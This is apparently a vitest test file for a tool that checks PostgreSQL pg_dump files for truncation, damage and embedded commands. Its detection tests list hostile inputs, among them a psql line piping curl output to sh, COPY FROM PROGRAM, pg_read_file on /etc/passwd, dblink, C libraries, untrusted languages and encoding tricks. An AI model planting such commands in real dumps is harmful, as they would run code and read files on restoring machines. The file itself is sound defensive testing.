import { readFileSync } from 'node:fs';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ATTACKS } from '../../../test-support/proof/attacks';
import { failureOf } from '../../../test-support/proof/failure';
import { inMemory } from '../../../test-support/proof/portal-export';
import { isUnusualCommand } from '../contents/postgresql/psql-commands';
import { SqlScanner } from '../contents/postgresql/sql-scanner';
import { firstStatements, lacksClosing, provePlainDump } from './prove-plain-dump';

const options = { signal: new AbortController().signal, report: () => undefined };
const prove = (sql: string | Uint8Array) => provePlainDump(inMemory(Buffer.from(sql as string)), options);
const vector = readFileSync('test-vectors/tenant_acme.sql');

/** As pg_dump begins and ends its files. */
function dumped(sql: string): string {
  return `--\n-- PostgreSQL database dump\n--\n\n-- Dumped from database version 16.2\n-- Dumped by pg_dump version 16.3\n\n${sql}\n--\n-- PostgreSQL database dump complete\n--\n\n`;
}

describe('a whole dump', () => {
  test('of the vectors', async () => {
    const report = await prove(vector);
    expect(report).toMatchObject({
      checks: [
        { id: 'sql-statements', outcome: 'passed' },
        { id: 'sql-complete', outcome: 'passed' },
      ],
      warnings: [],
      facts: {
        kind: 'postgresql-dump',
        format: 'plain',
        serverVersion: '15.18 (Debian 15.18-0+deb12u1)',
        tables: [
          { schema: 'tenant_acme', name: 'sessions', rows: 2000 },
          { schema: 'tenant_acme', name: 'subscribers', rows: 500 },
        ],
      },
    });
    expect(report.facts).toHaveProperty(
      'objects',
      expect.arrayContaining([
        { type: 'CONSTRAINT', count: 3 },
        { type: 'TABLE DATA', count: 2 },
      ]),
    );
  });

  test('names of tables as the server has them', async () => {
    const sql = dumped(
      'SET search_path = old, pg_catalog;\nCREATE TABLE Plain (a int);\nCOPY plain (a) FROM stdin;\n1\n2\n\\.\nCREATE UNLOGGED TABLE "a ""b"".c"."D" (a int);\nINSERT INTO "a ""b"".c"."D" VALUES (1), (2), (3);',
    );
    expect((await prove(sql)).facts).toMatchObject({
      tables: [
        { schema: 'a "b".c', name: 'D', rows: 3 },
        { schema: 'old', name: 'plain', rows: 2 },
      ],
    });
  });

  test('rows of tables whose names begin alike', async () => {
    const sql = dumped(
      'INSERT INTO a VALUES (1);\nINSERT INTO a VALUES (2), (3);\nINSERT INTO a.b VALUES (4);\nINSERT INTO ab VALUES (5);\nINSERT INTO "a (" VALUES (6);\nINSERT INTO "a VALUES" (x) VALUES (7);\nSET search_path = other;\nINSERT INTO a VALUES (8);',
    );
    const { facts } = await prove(sql);
    expect(facts).toHaveProperty('tables', [
      { schema: null, name: 'a', rows: 3 },
      { schema: null, name: 'a (', rows: 1 },
      { schema: null, name: 'a VALUES', rows: 1 },
      { schema: null, name: 'ab', rows: 1 },
      { schema: 'a', name: 'b', rows: 1 },
      { schema: 'other', name: 'a', rows: 1 },
    ]);
  });

  test('without a row of any table says so', async () => {
    expect((await prove(dumped('CREATE TABLE a (b int);'))).warnings).toEqual([
      { code: 'dump-without-data', params: {} },
    ]);
  });

  test('says when and of which database where it can', async () => {
    const report = await prove(
      dumped(
        '-- Started on 2026-11-21 05:41:13 UTC\n\\connect -reuse-previous=on "dbname=\'shop\'"\nINSERT INTO a VALUES (1);',
      ),
    );
    expect(report.facts).toMatchObject({ database: 'shop', createdAt: '2026-11-21T05:41:13' });
    expect(report.warnings).toEqual([]);
  });

  test('without any table says so', async () => {
    expect((await prove(dumped('SELECT 1;'))).warnings).toEqual([{ code: 'dump-without-tables', params: {} }]);
  });

  test('is read behind a byte order mark, and with the line ends of Windows', async () => {
    for (const sql of [`\uFEFF${vector.toString()}`, vector.toString().replaceAll('\n', '\r\n')]) {
      expect(await prove(sql)).toMatchObject({ warnings: [], facts: { tables: [{ rows: 2000 }, { rows: 500 }] } });
    }
  });
});

describe('SQL that pg_dump did not write', () => {
  test('passes with a warning that nothing proves its end', async () => {
    const report = await prove('CREATE TABLE a (b int);\nINSERT INTO a VALUES (1);\n');
    expect(report.warnings).toEqual([{ code: 'sql-end-unproven', params: {} }]);
    expect(report.checks).toContainEqual({ id: 'sql-complete', outcome: 'warning' });
  });

  test("and what was added behind pg_dump's end", async () => {
    expect((await prove(`${dumped('INSERT INTO a VALUES (1);')}DROP TABLE a;\n`)).warnings).toEqual([
      { code: 'sql-end-unproven', params: {} },
    ]);
  });

  test('a closing line within a quoted text closes nothing', async () => {
    const sql = dumped('SELECT 1;').replace(
      '--\n-- PostgreSQL database dump complete\n--\n',
      "SELECT '\n-- PostgreSQL database dump complete\n';",
    );
    expect(await failureOf(() => prove(sql))).toMatchObject({ code: 'cut-short' });
  });
});

describe('a dump that stops early', () => {
  test('wherever it is cut before its closing line', async () => {
    const closing = vector.lastIndexOf(' complete');
    for (let end = 60; end < closing; end += 1013)
      expect((await failureOf(() => prove(vector.subarray(0, end)))).code).toBe('cut-short');
    expect((await failureOf(() => prove(vector.subarray(0, closing)))).code).toBe('cut-short');
  });

  test.each([
    ["INSERT INTO a VALUES (1);\nINSERT INTO a VALUES ('", 'cut-short'],
    ['COPY a FROM stdin;\n1\n2\n', 'cut-short'],
    ['/* never ends', 'cut-short'],
    ['', 'payload-empty'],
    ['SELECT 1;\0\0\0\0', 'dump-damaged'],
    ['SELECT 1;\npg_dump: warning: there are circular foreign keys\nCREATE TABLE a (b int);', 'dump-damaged'],
    [`${dumped('SELECT 1;')}pg_dump: warning: something\n`, 'dump-damaged'],
  ])('%j: %s', async (sql, code) => {
    expect((await failureOf(() => prove(sql))).code).toBe(code);
  });

  test('is known from its end alone, whatever else was changed', async () => {
    expect(await lacksClosing(inMemory(vector))).toBe(false);
    const changed = Buffer.from(vector);
    changed[5000] = 0x27;
    expect(await lacksClosing(inMemory(changed))).toBe(false);
    expect(await lacksClosing(inMemory(vector.subarray(0, 60_000)))).toBe(true);
    expect(await lacksClosing(inMemory(Buffer.from('SELECT 1;')))).toBe(false);
  });
});

describe('what would run on the machine that restores it', () => {
  test.each([
    '\\! curl https://example.org | sh',
    'SELECT 1 \\g | sh',
    '\\o |sh',
    '\\i /etc/passwd',
    "\\copy a from program 'id'",
    '\\set x `id`',
    '\\echo harmless \\! id',
    '\\lo_import /etc/passwd',
    "SELECT '\\\\! id' \\gexec",
    "COPY a FROM PROGRAM 'id';",
    "COPY a TO '/var/lib/postgresql/x';",
    '-- Name: a\n\\! id',
    'COPY missing FROM stdin;\n1\n\\! id\n\\.',
    "SET standard_conforming_strings = off;\nSELECT '\\';\n\\! id\n'; ';",
  ])('%s', async (command) => {
    const report = await prove(dumped(`${command}\n;\nSELECT 1;`));
    expect(report.warnings).toContainEqual({ code: 'sql-runs-commands', params: expect.anything() as unknown });
    expect(report.checks).toContainEqual({ id: 'sql-statements', outcome: 'warning' });
  });

  test.each(['\\g |id', '\\gx', '\\gset', '\\gexec', '\\gdesc', '\\crosstabview', '\\watch 1', '\\; SELECT 2;'])(
    '%s ends what it follows, and what comes next is read',
    async (command) => {
      const report = await prove(dumped(`CREATE TABLE a (b int);\nSELECT 'x' ${command}\nCOPY a FROM stdin;\n1\n\\.`));
      expect(report.warnings).toMatchObject([{ code: 'sql-runs-commands' }]);
      expect(report.facts).toMatchObject({ tables: [{ name: 'a', rows: 1 }] });
    },
  );

  test('a subscription as pg_dump writes it connects to nothing', async () => {
    const sql = dumped(
      "INSERT INTO a VALUES (1);\nCREATE SUBSCRIPTION s CONNECTION 'host=example.org' PUBLICATION p WITH (connect = false, slot_name = 's');",
    );
    expect((await prove(sql)).warnings).toEqual([]);
  });

  test.each<readonly [string, string]>([
    ...ATTACKS.map(([name, sql]) => [name, sql('id')] as const),
    ['a server of its own', '\\connect -reuse-previous=on "dbname=\'a\' host=example.org"'],
    ['a program in a name', '\\connect `id`'],
    ['a command behind another', '\\restrict abc \\! id'],
    ['a command within a statement', 'SELECT 1\n\\restrict abc\n;'],
    ['an encoding that hides bytes', "SET client_encoding = 'SJIS';"],
    ['the same by its other name', "SET SESSION client_encoding TO 'Windows-932';"],
    ['the same as a word', 'SET client_encoding TO big5;'],
    ['the same by psql', '\\encoding GB18030'],
    ['a variable', 'SELECT :name;'],
    ['a quoted variable', "SELECT :'HOST';"],
    ['a variable as a name', 'SELECT :"USER";'],
    ['a question for a variable', 'SELECT :{?HOST};'],
    ['a variable behind a type', 'SELECT 1::text:::HOST;'],
    ['a COPY from a file in an escaped text', "COPY a FROM E'/etc/passwd';"],
    ['a COPY from a file in a dollar quote', 'COPY a (b, c) FROM $$/etc/passwd$$;'],
    ['a COPY to a program', "COPY (SELECT a FROM b) TO PROGRAM 'id';"],
    ['a COPY within a function', 'CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; COPY a FROM stdin; END;\n'],
    ['a file of the server', "SELECT pg_read_file('/etc/passwd');"],
    ['the same by a quoted name', 'SELECT pg_catalog."pg_read_file"(\'/etc/passwd\');'],
    ['a large object from a file', "SELECT lo_import('/etc/passwd');"],
    ['another server', "INSERT INTO a SELECT * FROM dblink('host=example.org', 'SELECT 1') AS t(b int);"],
    ['a block that runs', "DO $$ BEGIN EXECUTE 'COPY a FROM PROG' || 'RAM ''id'''; END $$;"],
    ['a procedure', 'CALL f();'],
    ['a library', "LOAD '/tmp/x.so';"],
    ['a setting of the server', "ALTER SYSTEM SET archive_command = 'id';"],
    ['a function in C', "CREATE FUNCTION f() RETURNS int AS '/tmp/x.so', 'f' LANGUAGE c;"],
    ['a function in an untrusted language', 'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$;'],
    ['the same in quotes', "CREATE FUNCTION f() RETURNS int LANGUAGE 'plperlu' AS $$ return 1 $$;"],
    ['an untrusted language', 'CREATE OR REPLACE PROCEDURAL LANGUAGE plpython3u;'],
    ['an extension that brings one', 'CREATE EXTENSION IF NOT EXISTS plpython3u WITH SCHEMA pg_catalog;'],
    ['a table that is a program', "CREATE FOREIGN TABLE a (b int) SERVER s OPTIONS (program 'id');"],
    ['another setting by its function', "SELECT set_config('client_encoding', 'SJIS', false);"],
    [
      'a subscription that connects at once',
      "CREATE SUBSCRIPTION s CONNECTION 'host=example.org' PUBLICATION p WITH (slot_name = 's');",
    ],
    ['a name spelt by its signs\u2019 numbers', 'SELECT U&"pg\\005fread_file"(\'/etc/passwd\');'],
    ['a language spelt so', "CREATE FUNCTION f() RETURNS int LANGUAGE U&'plpyth\\006fn3u' AS $$ return 1 $$;"],
    ['more ways to read it than can be followed', "SELECT '\\', '\\';\n".repeat(40)],
  ])('%s is reported', (name, sql) => {
    const bytes = Buffer.from(dumped(`CREATE TABLE t (a text);\n${sql}\n`));
    for (const size of [bytes.length, 1, 7]) {
      const found: string[] = [];
      const scanner = new SqlScanner({
        unusual: (text) => found.push(text),
        command: (text) => (isUnusualCommand(text) ? found.push(text) : 0),
        statement: ({ head, runsCommand }) => (runsCommand ? found.push(head) : 0),
      });
      for (let at = 0; at < bytes.length; at += size) scanner.push(bytes.subarray(at, at + size));
      scanner.end();
      // The last is reported where the whole of it comes at once.
      if (!name.startsWith('more ways') || size > 7) expect(found).not.toEqual([]);
    }
  });

  test.each([
    '\\restrict abc\n\\unrestrict abc',
    '\\connect shop',
    "SELECT '\\! id', E'\\'\\! id', $$\n\\! id\n$$;",
    'COPY a FROM stdin;\n\\N\tx\\ty\\\\! id\n\\x41\\101\n\\.',
    "SET standard_conforming_strings = off;\nSELECT E'a\\\\b';",
    "SET standard_conforming_strings = on;\nSELECT 'C:\\';",
    "COMMENT ON TABLE a IS 'x\n\\! id';",
    "CREATE VIEW v AS SELECT (a.b)[1:2] AS b, 'x'::text, $1::int FROM a;",
    "SELECT pg_catalog.set_config('search_path', '', false);",
    "SET client_encoding = 'UTF8';\nSET client_encoding TO LATIN1;",
    "\\connect -reuse-previous=on \"dbname='a \\\\' b'\"",
    '\\connect "a b"',
    'COPY a (b, "from") FROM stdin WITH (FORMAT text) WHERE b IS DISTINCT FROM 1;\n1\n\\.',
    'COPY (SELECT a FROM b) TO stdout;',
    'CREATE EXTENSION IF NOT EXISTS "uuid-ossp" WITH SCHEMA public;\nCREATE EXTENSION dblink;\nCREATE OR REPLACE PROCEDURAL LANGUAGE plpgsql;',
    'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $_$ BEGIN PERFORM pg_read_file(x); COPY a FROM PROGRAM y; RETURN $1; END $_$;',
    "INSERT INTO a VALUES ('C:\\', 12);\nINSERT INTO a VALUES ('D:', 'at 12:30, see note:x, http://example.org');",
  ])('but not %j', async (sql) => {
    expect((await prove(dumped(sql))).warnings).not.toContainEqual({
      code: 'sql-runs-commands',
      params: expect.anything() as unknown,
    });
  });
});

describe('the first statements', () => {
  test('as many as are asked for, without the comments between them', async () => {
    const first = await firstStatements(inMemory(vector), 3);
    expect(first.map(({ text }) => text)).toEqual([
      'SET statement_timeout = 0;',
      'SET lock_timeout = 0;',
      'SET idle_in_transaction_session_timeout = 0;',
    ]);
  });

  test('no more than there are, and of a long one the beginning', async () => {
    const first = await firstStatements(inMemory(Buffer.from(`SELECT 1; SELECT '${'x'.repeat(200_000)}';`)), 5);
    expect(first.map(({ text, bytes }) => [text.length, bytes])).toEqual([
      [9, 9],
      [4096, 200_010],
    ]);
  });
});

test('a changed dump passes or fails in a way that has a name', async () => {
  const whole = Buffer.from(
    dumped(
      "CREATE TABLE a (b text);\nCOPY a FROM stdin;\nx\ny\n\\.\nINSERT INTO a VALUES ('z'), (E'\\'');\nCREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END;\nSELECT $a$;$a$;",
    ),
  );
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.nat(whole.length - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 5 }),
      fc.nat(whole.length),
      async (flips, end) => {
        const changed = Buffer.from(whole.subarray(0, end % 3 === 0 ? end : whole.length));
        for (const [at, byte] of flips) if (at < changed.length) changed[at] = byte;
        const passed = await prove(changed).then(
          () => true,
          () => false,
        );
        if (!passed)
          expect(['cut-short', 'dump-damaged', 'payload-empty']).toContain(
            (await failureOf(() => prove(changed))).code,
          );
      },
    ),
    { numRuns: 500 },
  );
});
